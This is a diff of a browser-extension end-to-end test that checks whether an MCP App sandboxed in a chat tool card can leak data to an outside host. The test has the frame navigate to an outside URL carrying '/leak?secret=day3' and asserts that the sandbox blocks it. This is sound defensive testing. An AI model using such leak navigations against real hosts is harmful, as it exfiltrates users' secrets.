@@ -26,7 +26,9 @@ let outsideUrl: string;
 const outsideVisits: string[] = [];
 /** What Chromium logs when the app's policy blocks its fetch of the outside host. */
 const blockedFetch = () =>
-  new RegExp(`(Connecting to '|Fetch API cannot load )${outsideUrl.replace(/\./g, '\\.')}/steal`);
+  new RegExp(
+    `(Connecting to '|Fetch API cannot load |Framing ')${outsideUrl.replace(/\./g, '\\.')}/`,
+  );
 
 const composer = () => page.getByRole('combobox', { name: 'Message' });
 
@@ -303,11 +305,18 @@ describe('an MCP App in its tool card', () => {
       .waitFor();
     expect(callsOf('echo')).toBe(echoes);
     await page.getByRole('group', { name: /run echo/ }).waitFor({ state: 'detached' });
-    // Nor can it turn its frame into one of Patchbay's pages: the browser refuses to load it.
+    // Nor can it leave for another address with what it knows (a navigation is not a fetch,
+    // but the sandbox allows no frames): nothing reaches the host, and the sandbox drops the
+    // frame that tried.
+    const refused = page.waitForEvent('console', (message) =>
+      message.text().startsWith(`Framing '${outsideUrl}/'`),
+    );
     await frame.evaluate((target) => {
       location.href = target;
-    }, `chrome-extension://${session.extensionId}/sidepanel.html`);
-    await expect.poll(() => proxy?.childFrames()[0]?.url()).toBe('chrome-error://chromewebdata/');
+    }, `${outsideUrl}/leak?secret=day3`);
+    await refused;
+    await expect.poll(() => proxy?.childFrames().length).toBe(0);
+    expect(outsideVisits).toEqual([]);
   });
 
   it('is torn down when its card leaves the conversation', async () => {
